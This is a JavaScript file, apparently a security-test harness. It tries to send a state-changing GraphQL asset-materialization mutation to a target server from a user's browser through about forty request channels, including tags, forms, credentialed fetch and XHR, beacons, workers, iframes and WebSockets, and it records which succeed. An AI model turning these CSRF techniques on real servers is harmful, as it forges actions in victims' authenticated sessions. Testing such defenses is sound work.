// What a page can send to another server from its user's browser. `attack(target, page)` tries each way once and resolves to what
// could be read, by way. Each way that gets through leaves an asset of its name: the mutation materializes it.
const mutation = (way) =>
  `mutation { reportRunlessAssetEvents(eventParams: {eventType: ASSET_MATERIALIZATION, assetKey: {path: ["${way}"]}}) { __typename } }`;
const READ = "{ version }";

async function attack(target, page) {
  target = target || location.origin;
  const url = (way) => `${target}/graphql?query=${encodeURIComponent(mutation(way))}`;
  const body = (way) => JSON.stringify({ query: mutation(way) });
  const after = (seconds) => new Promise((resolve) => setTimeout(() => resolve(""), seconds * 1000));
  const text = async (response) => (await response).text();
  const element = (name, set) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), set);
      made.onload = () => resolve(made.naturalWidth === 0 ? "" : name === "iframe" || name === "object" ? "" : "loaded");
      made.onerror = () => resolve("");
      (document.body || document.documentElement).append(made);
    });
  const form = (way, method, enctype, fields) => {
    const frame = Object.assign(document.createElement("iframe"), { name: way });
    const made = Object.assign(document.createElement("form"), { method, enctype, action: url(way), target: way });
    for (const [name, value] of Object.entries(fields))
      made.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(frame, made);
    made.submit();
    return after(1);
  };
  const request = (method, way, kind, data) =>
    new Promise((resolve) => {
      const made = new XMLHttpRequest();
      made.open(method, url(way));
      made.withCredentials = true;
      if (kind) made.setRequestHeader("Content-Type", kind);
      made.onloadend = () => resolve(made.responseText);
      made.send(data);
    });
  const socket = (way, query) =>
    new Promise((resolve) => {
      const made = new WebSocket(`${target.replace(/^http/, "ws")}/graphql`, "graphql-ws");
      made.onopen = () => made.send(JSON.stringify({ type: "connection_init", payload: {} }));
      made.onmessage = (message) => {
        if (JSON.parse(message.data).type !== "connection_ack") return resolve(message.data);
        made.send(JSON.stringify({ type: "start", id: "1", payload: { query } }));
        setTimeout(() => resolve(message.data), 500);
      };
      made.onerror = made.onclose = () => resolve("");
    });
  const by = (method, mode, headers, way, data) =>
    text(fetch(url(way), { method, mode, headers, credentials: "include", ...(data ? { body: data } : {}) }));
  const form_type = { "Content-Type": "application/x-www-form-urlencoded" };
  const json = { "Content-Type": "application/json" };
  const posted = (mode, headers, way, data) =>
    text(fetch(`${target}/graphql`, { method: "POST", mode, headers, credentials: "include", body: data }));

  const ways = {
    image: (way) => element("img", { src: url(way) }),
    icon: () => element("img", { src: `${target}/favicon.png` }),
    script: (way) => element("script", { src: url(way) }),
    module: (way) => element("script", { src: url(way), type: "module" }),
    style: (way) => element("link", { href: url(way), rel: "stylesheet" }),
    preload: (way) => element("link", { href: url(way), rel: "preload", as: "fetch", crossOrigin: "use-credentials" }).then(() => ""),
    prefetch: (way) => element("link", { href: url(way), rel: "prefetch" }),
    object: (way) => element("object", { data: url(way) }),
    frame: (way) => element("iframe", { src: url(way) }),
    video: (way) => element("video", { src: url(way) }),
    form_get: (way) => form(way, "get", "", { query: mutation(way) }),
    form_post: (way) => form(way, "post", "application/x-www-form-urlencoded", { a: "b" }),
    form_multipart: (way) => form(way, "post", "multipart/form-data", { a: "b" }),
    form_text: (way) => form(way, "post", "text/plain", { [body(way)]: "" }),
    get_cors: (way) => by("GET", "cors", {}, way),
    get_no_cors: (way) => by("GET", "no-cors", {}, way),
    get_same_origin: (way) => by("GET", "same-origin", {}, way),
    get_with_header: (way) => by("GET", "cors", { "X-Own": "1" }, way),
    head_no_cors: (way) => by("HEAD", "no-cors", {}, way),
    post_form: (way) => by("POST", "no-cors", form_type, way, "a=b"),
    post_text: (way) => by("POST", "no-cors", { "Content-Type": "text/plain" }, way, body(way)),
    post_untyped: (way) => by("POST", "no-cors", {}, way, new Blob(["a"])),
    post_two_types: (way) => posted("no-cors", { "Content-Type": "text/plain;application/json" }, way, body(way)),
    post_json: (way) => posted("cors", json, way, body(way)),
    post_json_no_cors: (way) => posted("no-cors", json, way, body(way)),
    post_read: (way) => posted("cors", json, way, JSON.stringify({ query: READ })),
    post_redirected: (way) => text(fetch(`${page}/redirect?to=${encodeURIComponent(url(way))}`, { method: "POST", mode: "no-cors", body: "a" })),
    put: (way) => by("PUT", "cors", json, way, body(way)),
    xhr_get: (way) => request("GET", way),
    xhr_post: (way) => request("POST", way, "text/plain", body(way)),
    xhr_json: (way) => request("POST", way, "application/json", body(way)),
    beacon: async (way) => (navigator.sendBeacon(url(way), new URLSearchParams("a=b")), after(1)),
    beacon_blob: async (way) => (navigator.sendBeacon(url(way), new Blob(["a"], { type: "text/plain" })), after(1)),
    event_source: (way) => (new EventSource(url(way), { withCredentials: true }), after(1)),
    worker: async (way) => {
      const code = `importScripts(${JSON.stringify(url(way))})`;
      new Worker(URL.createObjectURL(new Blob([code])));
      return after(1);
    },
    sandbox: (way) => {
      const code = `fetch(${JSON.stringify(url(way))}, {method: "POST", mode: "no-cors", body: "a"})`;
      element("iframe", { sandbox: "allow-scripts", srcdoc: `<script>${code}<\/script>` });
      return after(1);
    },
    ping: (way) => {
      const link = Object.assign(document.createElement("a"), { href: "#ping", ping: url(way) });
      document.body.append(link);
      link.click();
      return after(1);
    },
    popup: (way) => (window.open(url(way)), after(1)),
    report: () => text(fetch(`${target}/report_asset_materialization/report`, { method: "POST", mode: "no-cors" })),
    report_text: () => text(fetch(`${target}/report_asset_materialization/report_text`, { method: "POST", mode: "no-cors", body: "{}" })),
    server_info: () => text(fetch(`${target}/server_info`, { credentials: "include" })),
    start_page: () => text(fetch(`${target}/`, { credentials: "include" })),
    socket: (way) => socket(way, mutation(way)),
    socket_read: (way) => socket(way, READ),
  };
  const tried = Object.entries(ways).map(async ([way, send]) => {
    const read = await Promise.race([Promise.resolve().then(() => send(way)).catch(() => ""), after(5)]);
    return [way, read];
  });
  return Object.fromEntries(await Promise.all(tried));
}
